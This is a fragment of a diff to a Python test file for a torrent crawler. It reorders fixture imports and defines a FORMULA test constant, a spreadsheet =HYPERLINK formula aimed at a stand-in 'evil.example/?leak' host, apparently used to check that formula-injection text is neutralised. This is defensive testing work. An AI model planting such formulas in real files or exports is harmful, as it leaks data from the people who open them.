@@ -28,9 +28,9 @@ from crawler.queue.items import NewItem, parse_items
 from crawler.queue.torrent_names import MAX_CHARS
 from crawler.queue.transitions import Queue
 from crawler.safe_text import FORMULA_START
+from tests.cli import on_terminal
 from tests.mmdb import write_city_db
 from tests.test_dashboard_browser import browser, dashboard, injected, wait_rendered  # noqa: F401 (fixtures)
-from tests.test_names_shown import on_terminal
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak","open")'
 # the .torrent's name.utf-8 (its name is Latin-1, passed over): a formula, Unicode, a bidi override,
